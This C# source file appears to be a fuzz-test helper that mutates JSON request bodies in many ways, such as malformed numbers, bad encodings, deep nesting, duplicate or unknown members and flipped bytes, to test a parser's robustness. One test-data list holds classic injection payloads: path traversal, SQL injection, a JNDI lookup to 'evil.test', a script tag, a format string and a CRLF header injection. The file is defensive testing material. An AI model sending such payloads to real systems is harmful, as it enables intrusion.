using System.Text;
using System.Text.RegularExpressions;

namespace Vae.Reliability.Tests.Hostile;

/// <summary>A body that was changed.</summary>
/// <param name="Name">How.</param>
/// <param name="Bytes">What became of it.</param>
/// <param name="IsMalformed">Whether it is surely no JSON that may be taken any more.</param>
internal sealed record Mutation(string Name, byte[] Bytes, bool IsMalformed);

/// <summary>Changes good JSON so that it says too much, too little, or nothing that is JSON.</summary>
internal static partial class JsonMutations
{
    private const int MaxDepth = 8;

    private static readonly string[] NoJsonNumbers = ["NaN", "Infinity", "-Infinity", "+1", "01", ".5", "1.", "0x10", "1e", "--1", "1_000", "٣", "nan", "1f", "-"];

    private static readonly string[] Numbers =
    [
        "1e39", "-1e39", "1e999", "-1e999", "-0", "0", "-1", "1e-45", "1e-400", "4.9e-324", "1e4", "-1e4", "1000.0001", "3e38", "3.5e38", "9007199254740991", "9007199254740992",
        "9007199254740993", "18446744073709551615", "18446744073709551616", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "2147483648", "1.5", "1e9", "65", "4097", "1E+2", "0.1e1",
    ];

    private static readonly string[] OtherValues = ["null", "true", "false", "\"1.0\"", "\"\"", "{}", "[]", "[[]]", "[0]", "{\"z\":[0]}", "\"NaN\"", "[[[0]]]", "[null]"];

    private static readonly string[] Texts =
    [
        "", " ", "../x", "..%2f", "/etc/passwd", "a\\u0000b", "CON", "\\u202e", "' OR 1=1 --", "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>", "%s%n", "\\ud83d\\ude00", "x\\r\\nSet-Cookie: a=b",
    ];

    private static readonly Func<Dice, string, Mutation>[] Kinds =
    [
        OtherNumber, OtherNumber, OtherNumber, OtherNumber, NoNumber, OtherValue, OtherValue, OtherText, OtherText, OtherList, OtherList, OtherList,
        Twice, Unknown, Truncated, Behind, Encoded, Surrogate, Deep, LongNumber, LongText, Flipped, Flipped, Spelled, Swapped, Dropped, AnotherRoot,
    ];

    public static Mutation Change(Dice dice, string json) => Kinds[dice.Below(Kinds.Length)](dice, json);

    private static Mutation OtherNumber(Dice dice, string json) => Replaced(dice, "a number", json, Number(), dice.Of(Numbers));

    private static Mutation NoNumber(Dice dice, string json) => Replaced(dice, "no number", json, Number(), dice.Of(NoJsonNumbers)) with { IsMalformed = true };

    private static Mutation OtherValue(Dice dice, string json) => Replaced(dice, "another kind of value", json, dice.Of([Number(), Text(), List()]), dice.Of(OtherValues));

    private static Mutation OtherText(Dice dice, string json) => Replaced(dice, "a text", json, Text(), $"\"{dice.Of(Texts)}\"");

    private static Mutation OtherList(Dice dice, string json) => Replaced(dice, "a list", json, List(), dice.Below(8) switch
    {
        0 => Values(19),
        1 => Values(21),
        2 => Values(dice.Between(1000, 100_000)),
        3 => $"[{Values(20)},{Values(19)}]",
        4 => $"[{Values(20)},0]",
        5 => $"[{string.Join(',', Enumerable.Repeat(Values(20), dice.Of([64, 65, 4096, 4097])))}]",
        6 => $"[{string.Join(',', Enumerable.Repeat("[]", dice.Between(1, 50_000)))}]",
        _ => Values(20).Replace("0.5", dice.Of(Numbers), StringComparison.Ordinal),
    });

    private static Mutation Twice(Dice dice, string json)
    {
        MatchCollection names = Name().Matches(json);
        if (names.Count == 0) return AnotherRoot(dice, json);
        Match name = names[dice.Below(names.Count)];
        return new("a member twice", Utf8(json.Insert(name.Index, $"{name.Value}{dice.Of(["0", "null", "[]", "{}"])},")), IsMalformed: true);
    }

    private static Mutation Unknown(Dice dice, string json) =>
        new("a member that nobody knows", Utf8(json.Insert(1, $"\"{dice.Of(["x", "Z", "__proto__", "constructor", "z ", "$ref", ""])}\":1,")), IsMalformed: true);

    private static Mutation Truncated(Dice dice, string json) => new("truncated", Utf8(json)[..dice.Below(json.Length)], IsMalformed: true);

    private static Mutation Behind(Dice dice, string json) =>
        new("something behind", Utf8(json + dice.Of(["}", "{}", ",", "x", "\0", "//", "/**/", " null", "\n[1]"])), IsMalformed: true);

    private static Mutation Encoded(Dice dice, string json) => dice.Below(5) switch
    {
        0 => new("a mark of byte order", [0xEF, 0xBB, 0xBF, .. Utf8(json)], IsMalformed: true),
        1 => new("UTF-16", Encoding.Unicode.GetBytes(json), IsMalformed: true),
        2 => new("UTF-32", Encoding.UTF32.GetBytes(json), IsMalformed: true),
        3 => new("Latin 1", [.. Utf8(json)[..^1], .. ",\"\u00e9\":1}"u8[..2], 0xE9, (byte)'"', (byte)':', (byte)'1', (byte)'}'], IsMalformed: true),
        _ => new("an overlong form", [(byte)'{', (byte)'"', 0xC0, 0xAF, (byte)'"', (byte)':', (byte)'1', (byte)'}'], IsMalformed: true),
    };

    private static Mutation Surrogate(Dice dice, string json) => dice.OneIn(2)
        ? new("half of a pair in a name", Utf8(json.Insert(1, "\"\\ud800\":1,")), IsMalformed: true)
        : Replaced(dice, "half of a pair in a text", json, Text(), dice.Of(["\"\\ud800\"", "\"\\udc00x\"", "\"\\ud800\\ud800\""]));

    private static Mutation Deep(Dice dice, string json)
    {
        int depth = dice.Of([9, 20, 1000, 100_000, 500_000]);
        string open = dice.Of(["[", "{\"a\":"]);
        return dice.OneIn(2)
            ? new($"{depth} levels", Utf8(string.Concat(Enumerable.Repeat(open, depth))), IsMalformed: true)
            : Replaced(dice, $"{depth} levels", json, Number(), new string('[', depth) + new string(']', depth)) with { IsMalformed = depth > MaxDepth && json.Length > 0 };
    }

    private static Mutation LongNumber(Dice dice, string json)
    {
        int digits = dice.Of([400, 10_000, 400_000]);
        return Replaced(dice, $"{digits} digits", json, Number(), dice.Of([new string('9', digits), $"0.{new string('3', digits)}", $"1e{new string('9', digits)}", $"-{new string('1', digits)}e-{digits}"]));
    }

    private static Mutation LongText(Dice dice, string json) =>
        Replaced(dice, "a long text", json, Text(), $"\"{new string(dice.Of(['a', '"', '\\']), dice.Of([300, 100_000, 400_000])).Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}\"");

    private static Mutation Flipped(Dice dice, string json)
    {
        byte[] bytes = Utf8(json);
        for (int count = dice.Of([1, 1, 2, 8]); count > 0; count--) bytes[dice.Below(bytes.Length)] ^= (byte)(1 << dice.Below(8));
        return new("flipped bits", bytes, IsMalformed: false);
    }

    private static Mutation Spelled(Dice dice, string json) => dice.Below(4) switch
    {
        0 => new("single quotes", Utf8(json.Replace('"', '\'')), IsMalformed: true),
        1 => new("a comment", Utf8(json.Insert(1, "/* */")), IsMalformed: true),
        2 => new("a comma too many", Utf8(json[..^1] + ",}"), IsMalformed: true),
        _ => new("blanks", Utf8(new string(dice.Of([' ', '\n', '\t']), dice.Of([10, 500_000])) + json), IsMalformed: false),
    };

    private static Mutation Swapped(Dice dice, string json)
    {
        byte[] bytes = Utf8(json);
        int from = dice.Below(bytes.Length), to = dice.Below(bytes.Length);
        (bytes[from], bytes[to]) = (bytes[to], bytes[from]);
        return new("swapped bytes", bytes, IsMalformed: false);
    }

    private static Mutation Dropped(Dice dice, string json)
    {
        byte[] bytes = Utf8(json);
        int from = dice.Below(bytes.Length);
        return new("missing bytes", [.. bytes[..from], .. bytes[Math.Min(bytes.Length, from + dice.Between(1, 30))..]], IsMalformed: false);
    }

    private static Mutation AnotherRoot(Dice dice, string json) =>
        new("another root", Utf8(dice.Of(["null", "[]", "7", "\"x\"", "true", "", " ", "[{}]", $"[{json}]", $"\"{json.Length}\"", "\0"])), IsMalformed: true);

    private static Mutation Replaced(Dice dice, string name, string json, Regex what, string by)
    {
        MatchCollection places = what.Matches(json);
        if (places.Count == 0) return new($"{name} in place of all", Utf8(by), IsMalformed: false);
        Match place = places[dice.Below(places.Count)];
        return new($"{name}: {by[..Math.Min(by.Length, 24)]}", Utf8($"{json[..place.Index]}{by}{json[(place.Index + place.Length)..]}"), IsMalformed: false);
    }

    private static string Values(int count) => $"[{string.Join(',', Enumerable.Repeat("0.5", count))}]";

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    // Of values only: a name is followed by a colon.
    [GeneratedRegex("""(?<=[:\[,])-?\d+(\.\d+)?""", RegexOptions.CultureInvariant)]
    private static partial Regex Number();

    [GeneratedRegex("""(?<=[:\[,])"[^"]*"(?=[,}\]])""", RegexOptions.CultureInvariant)]
    private static partial Regex Text();

    [GeneratedRegex("""\[[^\[\]]*\]""", RegexOptions.CultureInvariant)]
    private static partial Regex List();

    [GeneratedRegex("""(?<=[{,])"[^"]*":""", RegexOptions.CultureInvariant)]
    private static partial Regex Name();
}
